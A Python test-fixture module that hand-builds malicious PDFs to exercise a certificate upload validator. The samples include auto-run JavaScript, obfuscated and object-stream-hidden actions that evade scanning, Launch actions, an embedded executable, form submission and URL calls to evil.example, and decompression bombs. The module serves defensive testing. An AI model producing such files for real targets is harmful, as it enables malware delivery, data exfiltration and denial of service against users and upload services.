"""Hostile PDFs for the certificate upload tests, written byte by byte here (nothing from the
validator is used), so each one is exactly the attack its name says."""

from __future__ import annotations

import struct
import zlib


def build_pdf(objects: dict[int, bytes], *, root: int = 1) -> bytes:
    """A PDF with a classic cross-reference table; ``objects`` maps numbers to bodies."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref)
    return bytes(out)


def stream(data: bytes, extra: bytes = b"", *, compress: bool = False) -> bytes:
    if compress:
        data = zlib.compress(data, 9)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


PAGE_TEXT = stream(b"BT /F1 12 Tf 20 100 Td (CITI Program completion report) Tj ET")
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def one_page(catalog_extra: bytes = b"", page_extra: bytes = b"", more: dict[int, bytes] | None = None,
             contents: bytes = PAGE_TEXT) -> bytes:
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R" + catalog_extra + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Resources << /Font << /F1 4 0 R >> >>"
           b" /Contents 5 0 R" + page_extra + b" >>",
        4: FONT,
        5: contents,
        **(more or {}),
    }
    return build_pdf(objects)


def plain() -> bytes:
    return one_page()


def with_go_to_open_action() -> bytes:
    """Benign: open at the first page, fitted; and a link to a web page."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI (https://about.citiprogram.org/) >> >>"
    return one_page(b" /OpenAction [3 0 R /Fit]", b" /Annots [6 0 R]", {6: link})


def open_action_javascript() -> bytes:
    return one_page(b" /OpenAction << /S /JavaScript /JS (app.alert('owned')) >>")


def open_action_javascript_with_escaped_names() -> bytes:
    """/J#61vaScript is /JavaScript and /J#53 is /JS once a reader decodes the names."""
    return one_page(b" /OpenAction 6 0 R", more={6: b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>"})


def page_additional_action() -> bytes:
    return one_page(page_extra=b" /AA << /O << /S /JavaScript /JS 6 0 R >> >>", more={6: stream(b"app.alert(2)")})


def page_additional_action_opening_a_url() -> bytes:
    return one_page(page_extra=b" /AA << /O << /S /URI /URI (https://evil.example/track) >> >>")


def open_action_submit_form() -> bytes:
    return one_page(b" /OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>")


def document_javascript_name_tree() -> bytes:
    return one_page(
        b" /Names << /JavaScript 6 0 R >>",
        more={6: b"<< /Names [(init) 7 0 R] >>", 7: b"<< /S /JavaScript /JS (this.print()) >>"},
    )


def launch_action() -> bytes:
    return one_page(b" /OpenAction << /S /Launch /F (C:\\\\Windows\\\\System32\\\\calc.exe) /NewWindow true >>")


def launch_action_on_a_link() -> bytes:
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /Launch /F (payload.sh) >> >>"
    return one_page(page_extra=b" /Annots [6 0 R]", more={6: link})


def embedded_file() -> bytes:
    return one_page(
        b" /Names << /EmbeddedFiles 6 0 R >>",
        more={
            6: b"<< /Names [(invoice.exe) 7 0 R] >>",
            7: b"<< /Type /Filespec /F (invoice.exe) /EF << /F 8 0 R >> >>",
            8: stream(b"MZ\x90\x00 pretend this is a program", b" /Type /EmbeddedFile"),
        },
    )


def deflated_zeros(megabytes: int) -> bytes:
    """zlib data that inflates to ``megabytes`` MB of zeros, made without holding them in memory."""
    compressor = zlib.compressobj(9)
    block = bytes(1024 * 1024)
    return b"".join(compressor.compress(block) for _ in range(megabytes)) + compressor.flush()


def flate_bomb(megabytes: int = 60) -> bytes:
    """A page whose content stream inflates to ``megabytes`` MB (about 1/1000 of that on disk)."""
    data = deflated_zeros(megabytes)
    return one_page(contents=b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream")


def many_small_bombs(count: int = 12, megabytes: int = 5) -> bytes:
    """No stream is large on its own; together they are more than 50 MB."""
    data = deflated_zeros(megabytes)
    more = {6 + n: b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream" for n in range(count)}
    return one_page(more=more)


def many_pages(count: int = 51) -> bytes:
    kids = b" ".join(b"%d 0 R" % (3 + n) for n in range(count))
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)}
    for n in range(count):
        objects[3 + n] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>"
    return build_pdf(objects)


def javascript_inside_a_compressed_object_stream() -> bytes:
    """The action lives in a compressed object stream (PDF 1.5), found through a cross-reference
    stream: not one byte of '/JavaScript' appears in the file as stored."""
    action = b"<< /S /JavaScript /JS (app.launchURL('https://evil.example/')) >>"
    header = b"6 0 "
    objstm_body = zlib.compress(header + action, 9)
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>",
        4: FONT,
        5: PAGE_TEXT,
        7: b"<< /Type /ObjStm /N 1 /First %d /Length %d /Filter /FlateDecode >>\nstream\n" % (len(header), len(objstm_body))
           + objstm_body + b"\nendstream",
    }
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n"
    xref_number = 8
    offsets[xref_number] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, xref_number + 1):
        if number == 6:
            rows.append(struct.pack(">BIH", 2, 7, 0))  # object 6 is entry 0 of object stream 7
        else:
            rows.append(struct.pack(">BIH", 1, offsets[number], 0))
    table = b"".join(rows)
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, len(table))
        + table + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)
